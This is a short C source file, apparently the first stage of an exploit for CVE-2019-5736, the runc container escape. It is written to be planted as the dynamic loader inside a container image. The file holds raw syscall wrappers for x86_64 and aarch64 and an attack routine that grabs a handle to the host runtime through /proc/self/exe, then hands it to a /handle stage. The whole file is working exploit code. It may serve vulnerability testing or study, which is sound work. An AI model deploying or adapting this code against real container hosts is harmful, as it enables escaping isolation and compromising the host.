/*
 * The first half of the attack on /proc/self/exe (CVE-2019-5736): lies in the image where the runtime's
 * executable expects its dynamic loader. When the kernel executes the runtime inside the container, this runs
 * in its place, takes a handle to the executable and leaves the stage to /handle.
 */
#if defined(__x86_64__)
enum { OPEN_AT = 257, DUP3 = 292, EXECVE = 59, EXIT = 231 };

__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call attack\n");

static long call(long number, long a, long b, long c, long d)
{
    register long r10 __asm__("r10") = d;
    long result;

    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}
#elif defined(__aarch64__)
enum { OPEN_AT = 56, DUP3 = 24, EXECVE = 221, EXIT = 94 };

__asm__(".globl _start\n_start: mov x0, sp\n bl attack\n");

static long call(long number, long a, long b, long c, long d)
{
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;

    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
#endif

enum { O_PATH_ = 010000000 };

__attribute__((noreturn, used)) void attack(long *stack)
{
    char **argv = (char **)(stack + 1);
    char **envp = argv + stack[0] + 1;
    long exe = call(OPEN_AT, -100, (long)"/proc/self/exe", O_PATH_, 0);

    call(DUP3, exe, 100, 0, 0);
    call(EXECVE, (long)"/handle", (long)argv, (long)envp, 0);
    call(EXIT, 99, 0, 0, 0);
    __builtin_unreachable();
}
